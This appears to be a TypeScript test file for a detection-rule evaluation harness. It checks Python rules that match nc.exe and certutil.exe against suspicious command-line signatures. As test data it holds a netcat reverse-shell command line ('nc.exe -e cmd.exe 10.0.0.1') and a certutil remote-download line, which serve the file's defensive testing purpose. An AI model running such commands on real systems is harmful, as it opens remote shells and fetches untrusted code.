// A loop over the collection a field picks from a constant dict (keyed-lists.ts): read once per
// entry, its variable any of that entry's values, under the field holding the entry's key.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { EvaluatedRule, Fires } from '../../evaluate/types.js';
import { loadPython, modelFires, modelRule } from './model-harness.js';

before(loadPython);

const ruleOf = (code: string): EvaluatedRule => modelRule(code, 'Custom.Log');
const fires = (rule: EvaluatedRule, event: Record<string, unknown>): Fires => modelFires(rule, event, 'Custom.Log');

const tools = ['TOOLS = {', '    "nc.exe": ["cmd.exe", "powershell.exe"],', '    "certutil.exe": ["-urlcache"],', '}', ''];

describe('for x in CONSTANT_DICT.get(field, [])', () => {
  it("each entry's values are tested only where the field holds its key", () => {
    const rule = ruleOf(
      [
        ...tools,
        'def rule(event):',
        '    process = event.get("image", "").lower().split("\\\\")[-1]',
        '    command_line = event.get("command_line", "")',
        '    signatures = TOOLS.get(process, [])',
        '    for signature in signatures:',
        '        if signature in command_line:',
        '            return True',
        '    return False',
        '',
      ].join('\n'),
    );
    assert.equal(fires(rule, { image: 'C:\\Tools\\NC.exe', command_line: 'nc.exe -e cmd.exe 10.0.0.1' }), 'yes');
    assert.equal(fires(rule, { image: 'C:\\Tools\\nc.exe', command_line: 'nc.exe -urlcache' }), 'no');
    assert.equal(fires(rule, { image: 'certutil.exe', command_line: 'certutil -urlcache -f http://x' }), 'yes');
    assert.equal(fires(rule, { image: 'certutil.exe', command_line: 'cmd.exe' }), 'no');
    // A process that is no key: the default, empty, runs no loop.
    assert.equal(fires(rule, { image: 'notepad.exe', command_line: 'cmd.exe' }), 'no');
  });

  it('without a default a field holding no key raises: the rule returns nothing truthy there', () => {
    const rule = ruleOf(
      [
        ...tools,
        'def rule(event):',
        '    for signature in TOOLS[event.get("image")]:',
        '        if signature in event.get("command_line", ""):',
        '            return False',
        '    return True',
        '',
      ].join('\n'),
    );
    assert.equal(fires(rule, { image: 'nc.exe', command_line: 'x' }), 'yes');
    assert.equal(fires(rule, { image: 'nc.exe', command_line: 'powershell.exe' }), 'no');
    assert.equal(fires(rule, { image: 'other.exe', command_line: 'x' }), 'no');
  });
});
